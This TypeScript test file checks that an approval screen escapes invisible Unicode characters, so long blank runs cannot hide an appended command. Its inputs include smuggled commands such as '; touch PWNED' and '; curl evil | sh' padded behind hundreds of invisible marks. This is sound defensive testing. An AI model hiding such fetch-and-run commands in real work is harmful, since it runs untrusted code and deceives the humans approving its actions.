/**
 * The blank rule (`Escape.visibleBlanks`), over the whole class: every code
 * point that renders as blank or as nothing, in a run long enough to hide what
 * follows, is shown visibly on the approval screen, and the shown text still
 * reads back to exactly the original. The class is derived here from Unicode's
 * categories and properties independently of `Escape.BLANK` (whose coverage of
 * it is checked first), so a class shrunk in the module fails here.
 */
import { describe, expect, it } from "@effect/vitest"
import * as fc from "fast-check"
import { commandLiteral, entryText, valueText } from "../../src/approval/ApprovalScreen.js"
import * as Escape from "../../src/security/Escape.js"

/**
 * What renders as blank or as nothing, by Unicode's data: the space separators (Zs),
 * the line and paragraph separators, the default-ignorables, private use and
 * unassigned code points, U+2800 BRAILLE PATTERN BLANK and U+1D159 MUSICAL SYMBOL NULL NOTEHEAD (blank glyphs of category So).
 */
const RENDERS_BLANK = /[\p{Zs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Co}\p{Cn}\u2800\u{1d159}]/u

/** Every code point of that class but U+0020, whose rule is its own (below). */
const BLANKS: ReadonlyArray<string> = (() => {
  const found: Array<string> = []
  for (let cp = 0; cp <= 0x10ffff; cp++) {
    if ((cp >= 0xd800 && cp <= 0xdfff) || cp === 0x20) continue
    const ch = String.fromCodePoint(cp)
    if (RENDERS_BLANK.test(ch)) found.push(ch)
  }
  return found
})()

/**
 * The class in groups of 256, each as one text of runs between bars: a run of
 * eight of each assigned blank, and a single one of each private use or
 * unassigned code point (each of those is escaped wherever it stands, so one
 * shows what a run would, at an eighth of the cost for the 950,000 of them).
 */
const groups = (): Array<{ readonly runs: string; readonly first: string }> => {
  const out: Array<{ readonly runs: string; readonly first: string }> = []
  for (let i = 0; i < BLANKS.length; i += 256) {
    const group = BLANKS.slice(i, i + 256)
    const runs = group.map((ch) => `|${ch.repeat(/[\p{Co}\p{Cn}]/u.test(ch) ? 1 : Escape.BLANK_RUN)}`).join("")
    out.push({ runs: `${runs}|`, first: `U+${(group[0]?.codePointAt(0) ?? 0).toString(16)}` })
  }
  return out
}

/** Raw blank-looking characters left in shown text, but single spaces, as U+ names. */
const rawBlanks = (shown: string): Array<string> =>
  (shown.match(new RegExp(RENDERS_BLANK.source, "gu")) ?? []).filter((ch) => ch !== " ").map((ch) => `U+${(ch.codePointAt(0) ?? 0).toString(16)}`)

/** The class but private use and unassigned code points, so that generated mixes meet them often. */
const ASSIGNED = BLANKS.filter((ch) => !/[\p{Co}\p{Cn}]/u.test(ch))

const longestSpaceRun = (shown: string): number => Math.max(0, ...(shown.match(/ +/g) ?? []).map((run) => run.length))

const unescapeValue = (shown: string): string =>
  shown.split("\\\\").map((part) =>
    part.replace(/\\(e|r|n|t|b|f|v|x[0-9a-f]{2}|u\{[0-9a-f]+\}|u[0-9a-f]{4})/g, (_, escape: string) => {
      const named: Record<string, string> = { e: "\u001b", r: "\r", n: "\n", t: "\t", b: "\b", f: "\f", v: "\v" }
      if (named[escape] !== undefined) return named[escape]
      return String.fromCodePoint(parseInt(escape.startsWith("u{") ? escape.slice(2, -1) : escape.slice(1), 16))
    })
  ).join("\\")

/**
 * Invisible placeholder glyphs, named: the blank glyphs no property covers
 * (U+2800, U+303F, U+16FE4, U+1D159 MUSICAL SYMBOL NULL NOTEHEAD), and the
 * fillers, invisible operators and format characters of the same kind that the
 * default-ignorable property covers.
 */
const PLACEHOLDERS = [
  "\u2800", "\u303f", "\u{16fe4}", "\u{1d159}",
  "\u115f", "\u1160", "\u3164", "\uffa0", "\u17b4", "\u17b5", "\u180e",
  "\u2061", "\u2062", "\u2063", "\u2064",
  ...Array.from({ length: 8 }, (_, i) => String.fromCodePoint(0x1d173 + i))
]

describe("the blank rule", () => {
  it(`shows each of ${PLACEHOLDERS.length} invisible placeholder glyphs escaped, alone or in a run, in a command, a value and an entry`, () => {
    for (const ch of PLACEHOLDERS) {
      const name = `U+${(ch.codePointAt(0) ?? 0).toString(16)}`
      expect({ name, blank: Escape.BLANK.test(ch) }).toEqual({ name, blank: true })
      for (const run of [ch, ch.repeat(Escape.BLANK_RUN)]) {
        const command = `echo safe${run}; touch PWNED`
        for (const shown of [commandLiteral(command), valueText(`/tmp/repo${run}x`), entryText({ name: "X", value: `a${run}b` })]) {
          expect({ name, raw: shown.includes(ch) }).toEqual({ name, raw: false })
        }
        expect(JSON.parse(commandLiteral(command))).toBe(command)
      }
    }
  })

  it(`covers the whole class: ${BLANKS.length.toLocaleString("en-US")} code points by Unicode's data`, () => {
    const missing = BLANKS.filter((ch) => !Escape.BLANK.test(ch)).map((ch) => `U+${(ch.codePointAt(0) ?? 0).toString(16)}`)
    const spaces = BLANKS.filter((ch) => /\p{Zs}/u.test(ch)).length
    const ignorable = BLANKS.filter((ch) => /\p{Default_Ignorable_Code_Point}/u.test(ch)).length
    console.log(`blank-looking code points by Unicode's data: ${BLANKS.length} (${spaces} Zs but U+0020, ${ignorable} default-ignorable, the rest Zl, Zp, Co, Cn, U+2800 and U+1D159); not in Escape.BLANK: ${missing.length}`)
    expect(missing).toEqual([])
    // The data is what it should be: the spaces and fillers the issue names are in it,
    // printable look-alikes of a blank are not.
    expect(spaces).toBe(16)
    for (const ch of ["\u00a0", "\u1680", "\u2000", "\u200a", "\u202f", "\u205f", "\u3000", "\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\u200b", "\ufeff", "\u{e0041}", "\ue000", "\u{10ffff}"]) {
      expect(BLANKS).toContain(ch)
    }
    for (const ch of ["a", "-", "_", "\u2423", "界", "é", "😀"]) expect(Escape.BLANK.test(ch)).toBe(false)
  })

  it("every one of them, in a run of eight inside a command (private use and unassigned: alone), is shown escaped and the literal reads back exactly", () => {
    for (const { first, runs } of groups()) {
      const command = `echo hello${runs}; touch PWNED; echo done`
      const shown = commandLiteral(command)
      expect({ first, raw: rawBlanks(shown) }).toEqual({ first, raw: [] })
      expect(longestSpaceRun(shown)).toBeLessThan(Escape.BLANK_RUN)
      expect(JSON.parse(shown)).toBe(command)
    }
  })

  it("every one of them, in a run inside a value (a directory), is shown escaped and reads back exactly", () => {
    for (const { first, runs } of groups()) {
      const value = `/home/u/a${runs}b`
      const shown = valueText(value)
      expect({ first, raw: rawBlanks(shown) }).toEqual({ first, raw: [] })
      expect(longestSpaceRun(shown)).toBeLessThan(Escape.BLANK_RUN)
      expect(unescapeValue(shown)).toBe(value)
    }
  })

  it("plain spaces stay plain below a run of eight; from eight on they are \\u0020", () => {
    expect(commandLiteral("a       b")).toBe("\"a       b\"")
    expect(commandLiteral("a        b")).toBe(`"a${"\\u0020".repeat(8)}b"`)
    expect(commandLiteral("a\u00a0b")).toBe("\"a\\u00a0b\"")
  })

  it("holds for 2,000 generated mixes of blanks and text", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...ASSIGNED), fc.integer({ min: 0, max: BLANKS.length - 1 }).map((i) => BLANKS[i] ?? " "), fc.constantFrom(" ", "a", "b", ";", "\"", "\\")), { maxLength: 80 }), (parts) => {
        const command = parts.join("")
        const shown = commandLiteral(command)
        expect(rawBlanks(shown)).toEqual([])
        expect(longestSpaceRun(shown)).toBeLessThan(Escape.BLANK_RUN)
        expect(JSON.parse(shown)).toBe(command)
      }),
      { numRuns: 2_000 }
    )
  })
})

describe("a mark riding on a blank (found by a red team)", () => {
  it("a space and a combining mark, repeated, cannot draw rows of nothing: every mark on a blank is escaped, and the text reads back", () => {
    for (const mark of ["\u0323", "\u{1bc9d}", "\u1161", "\u0315", "\u0301"]) {
      const hidden = `npm test${` ${mark}`.repeat(300)}; curl evil | sh`
      const shown = Escape.forLine(hidden)
      expect(shown).not.toContain(mark)
      expect(shown).toContain("; curl evil | sh")
      expect(JSON.parse(`"${shown.replace(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))}"`)).toBe(hidden)
    }
  })

  it("marks on letters are left as they are (up to the run limit)", () => {
    expect(Escape.forLine("cafe\u0301 nai\u0308ve")).toBe("cafe\u0301 nai\u0308ve")
  })
})
